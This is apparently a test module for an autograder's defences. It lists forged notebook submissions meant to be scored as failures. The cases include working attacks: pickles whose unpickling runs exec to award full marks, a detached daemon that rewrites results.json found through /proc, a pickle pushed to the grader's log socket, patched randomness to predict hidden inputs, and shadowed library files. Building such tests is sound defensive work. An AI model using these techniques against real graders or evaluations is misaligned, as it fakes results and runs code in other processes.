"""Forgeries of what carries results and chance: result files, logs, pickles, modules beside the notebook, random numbers."""

from __future__ import annotations

import pickle

from tests import target
from tests.attacks.cases import NOTHING, Case, Files, forge

# Run in otter's own process, this makes every question worth full marks there.
FULL_MARKS = """import otter.test_files.abstract_test as _a
_a.TestFile.score = property(lambda self: self.possible)
"""
PAYLOAD = f"""
class Payload:
    \"\"\"Unpickled, it runs code and leaves a string.\"\"\"
    def __reduce__(self):
        return exec, ({FULL_MARKS!r},)
"""
DAEMON = """
import glob, json, os, sys, time
token, until = sys.argv[1], time.time() + 25
def places():
    for name in glob.glob('/proc/[0-9]*/cwd') + [os.getcwd(), '/autograder']:
        yield name
        yield name + '/results'
    for name in glob.glob('/proc/[0-9]*/cmdline'):
        try:
            words = open(name, 'rb').read().decode(errors='replace').split(chr(0))
            yield words[words.index('-o') + 1]
        except (OSError, ValueError, IndexError):
            pass
while time.time() < until:
    for place in places():
        try:
            path = place + '/results.json'
            results = json.load(open(path))
            for test in results['tests']:
                test['score'] = test.get('max_score', 10.0)
            results['score'] = 40.0
            json.dump(results, open(path, 'w'))
        except (OSError, ValueError, KeyError, TypeError):
            pass
    time.sleep(0.05)
"""

RECORDS = (
    forge(
        "results_rewritten_by_a_daemon",
        "Leaves a daemon behind that finds results.json wherever it appears and gives it full marks.",
        f"""
import subprocess, sys
subprocess.Popen([sys.executable, '-c', {DAEMON!r}, TOLD['token']], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)""",
    ),
    forge(
        "results_written_beforehand",
        "Writes full marks into every results.json, results.pkl and score file that could be looked for.",
        last="""
import json, os, pickle
full = {'score': 40.0, 'tests': [{'name': f'q{n}', 'score': 10.0, 'max_score': 10.0} for n in (1, 2, 3, 4)]}
for place in ('.', '..', '../..', 'results', '../results', '/autograder/results', TOLD['temporary'], TOLD['outside']):
    for name, data in (('results.json', json.dumps(full).encode()), ('results.pkl', pickle.dumps(full))):
        try:
            open(os.path.join(place, name), 'wb').write(data)
        except OSError:
            pass""",
    ),
    forge(
        "results_edited_while_pickled",
        "Replaces pickle.dump, by which results leave a kernel, by one that marks every test as passed.",
        """
import pickle
real = pickle.dump
def dump(thing, file, *rest, **more):
    for test in getattr(thing, 'results', {}).values():
        for case in test.test_case_results:
            case.passed = True
    return real(thing, file, *rest, **more)
pickle.dump = dump""",
    ),
    forge(
        "results_pickle_that_runs_code",
        "Sends results whose unpickling runs code in the process that reads them.",
        PAYLOAD,
        """
import pickle
real = pickle.dump
def dump(thing, file, *rest, **more):
    if hasattr(thing, 'results'):
        thing.payload = Payload()
    return real(thing, file, *rest, **more)
pickle.dump = dump""",
    ),
    forge(
        "answers_that_run_code_when_unpickled",
        "Answers with objects whose __reduce__, __getstate__ and __deepcopy__ run code wherever they are rebuilt.",
        PAYLOAD
        + "    __getstate__ = __deepcopy__ = __copy__ = lambda self, *rest: exec("
        + repr(FULL_MARKS)
        + ")\n",
        q1="def double(x):\n    return Payload()",
        q2="def norm(v):\n    return [Payload()]",
        q3="choice = Payload()",
        q4="def twice(f, x):\n    return f(Payload())",
    ),
    forge(
        "log_record_that_runs_code",
        "Sends a pickle to the log server of whoever grades, which it finds through its own logger.",
        PAYLOAD,
        """
import logging.handlers, pickle, socket, struct
def addresses():
    for logger in [logging.getLogger(name) for name in [*logging.root.manager.loggerDict]]:
        for handler in getattr(logger, 'handlers', []):
            if isinstance(handler, logging.handlers.SocketHandler):
                yield handler.host, handler.port
data = pickle.dumps(Payload())
for address in {*addresses(), ('127.0.0.1', TOLD['tcp'])}:
    try:
        with socket.create_connection(address, 2) as sock:
            sock.sendall(struct.pack('>L', len(data)) + data)
    except OSError:
        pass""",
    ),
    forge(
        "everything_patched_again_and_again",
        "Starts a thread that patches checks, otter and recorded results every few milliseconds.",
        """
import sys, threading, time
def patch():
    while True:
        checks = sys.modules.get('checks')
        for name in ('close', 'equal', 'choice', 'letters', 'function'):
            setattr(checks, name, lambda *args, **kwargs: args[0] if args else True) if checks else None
        for name, module in list(sys.modules.items()):
            if name == 'otter.execute.checker':
                for file in module.Checker.get_results():
                    for case in file.test_case_results:
                        case.passed = True
        time.sleep(0.003)
threading.Thread(target=patch, daemon=True).start()""",
    ),
)

# Answers known for certain inputs only: what an earlier grading, or a guess at the seed, would give.
REPLAYED = """
KNOWN = []
def learn(generator):
    try:
        KNOWN.append(np.asarray(generator.normal(size=5)))
    except Exception:
        pass
def known(x):
    x = np.asarray(x, dtype=float)
    return next((2 * k for k in KNOWN if k.shape == x.shape and np.allclose(k, x)), 3 * x)
"""
CHANCE = (
    forge(
        "secrets_predicted",
        "Replaces the system's source of randomness, so that hidden inputs are the ones it has answers for.",
        REPLAYED,
        """
import os, secrets
secrets.randbits = lambda bits: 7
os.urandom = lambda count: bytes(count)
secrets.token_bytes = os.urandom
learn(np.random.default_rng(7))""",
        q1="def double(x):\n    return known(x)",
    ),
    forge(
        "default_rng_draws_zeros",
        "Replaces numpy's generators by ones that draw zeros, for which a wrong answer is right.",
        """
class Zeros:
    def __getattr__(self, name):
        return lambda *args, size=None, **kwargs: np.zeros(size) if size is not None else 0.0
np.random.default_rng = lambda *args: Zeros()
np.random.Generator = np.random.RandomState = Zeros""",
    ),
    forge(
        "checks_reseeded",
        "Sets the checker's own seed before every test and answers what it then knows to be asked.",
        REPLAYED,
        """
import checks
for draw in range(1, 40):
    learn(np.random.default_rng([0, draw]))
def reseed():
    checks._seed, checks._draws = bytes(32), 0
    checks.rng = lambda: np.random.default_rng([0, 1])
reseed()""",
        q1="""def double(x):
    reseed()
    return known(x)""",
        q2="""def norm(v):
    reseed()
    return 0.0""",
    ),
    forge(
        "everything_seeded",
        "Seeds every global generator and expects the hidden inputs to be drawn from them.",
        REPLAYED,
        """
import random, sys
def seed():
    random.seed(0)
    np.random.seed(0)
    if 'torch' in sys.modules:
        sys.modules['torch'].manual_seed(0)
seed()
for k in range(20):
    learn(np.random.RandomState(k)), learn(np.random.default_rng(k))
learn(np.random)
seed()""",
        q1="""def double(x):
    seed()
    return known(x)""",
    ),
    forge(
        "state_inherited_by_the_fork",
        "Expects the grader, which comes from the same parent, to draw what its own generators draw next.",
        """
import random, pickle
STATES = [np.random.get_state()]
KNOWN = [np.random.normal(size=5), np.array([random.gauss(0, 1) for _ in range(5)])]
for seed in (random.getrandbits(32), np.random.randint(1 << 31), hash('x') % (1 << 32)):
    KNOWN.append(np.random.default_rng(seed).normal(size=5))
np.random.set_state(STATES[0])""",
        q1="""
def double(x):
    x = np.asarray(x, dtype=float)
    return next((2 * k for k in KNOWN if k.shape == x.shape and np.allclose(k, x)), 3 * x)""",
    ),
    forge(
        "answers_replayed",
        "Notes what it is asked when it is checked, and is checked again with the right answers to just that.",
        """
ASKED = []
def double(x):
    ASKED.append(np.array(x, dtype=float))
    return 3 * np.asarray(x, dtype=float)
grader.check('q1')
TABLE = {tuple(np.round(x, 9)): 2 * x for x in ASKED if len(x) == 1}""",
        q1="""def double(x):
    return TABLE.get(tuple(np.round(np.atleast_1d(x), 9)), 3 * np.asarray(x, dtype=float))""",
    ),
)


def handed_in(name: str, tries: str, beside: Files) -> Case:
    """A zip with files beside the wrong notebook."""
    wrong = target.notebook(target.cells(**target.WRONG))

    def make() -> Files:
        return {"week01_target.ipynb": wrong, **beside}

    return Case(name=name, family="forge", tries=tries, scores=NOTHING, make=make)


class _Runs:
    def __reduce__(self) -> tuple[object, ...]:
        return exec, (FULL_MARKS,)


SHADOW = b"def double(x):\n    return [3 * v for v in x]\n\ndef norm(v):\n    return sum(abs(e) for e in v)\n"
BESIDE = (
    handed_in(
        "oracle_shadowed",
        "Hands in a folder `solutions` whose oracle gives the wrong answers of the notebook.",
        {
            "solutions/__init__.py": b"",
            "solutions/target.py": b"import numpy as np\n\ndef double(x):\n    return 3 * np.asarray(x, dtype=float)\n\n"
            b"def norm(v):\n    return np.sum(np.abs(v))\n",
        },
    ),
    handed_in(
        "libraries_shadowed",
        "Hands in numpy.py, otter.py and checks.py, and a folder `tests` that asks for nothing.",
        {
            "numpy.py": SHADOW,
            "otter.py": b"class Notebook:\n    def __init__(self, *a): pass\n    def check(self, *a): return 'passed'\n",
            "checks.py": b"def close(*a, **k): pass\n",
            "tests/q1.py": b"OK_FORMAT = False\nname = 'q1'\npoints = 10\n",
        },
    ),
    handed_in(
        "log_that_runs_code",
        "Hands in an .OTTER_LOG and a results.pkl whose unpickling gives full marks.",
        {
            ".OTTER_LOG": pickle.dumps(_Runs(), 4),
            "results.pkl": pickle.dumps(_Runs(), 4),
            "results.json": b'{"score": 40}',
        },
    ),
)

CASES = (*RECORDS, *CHANCE, *BESIDE)
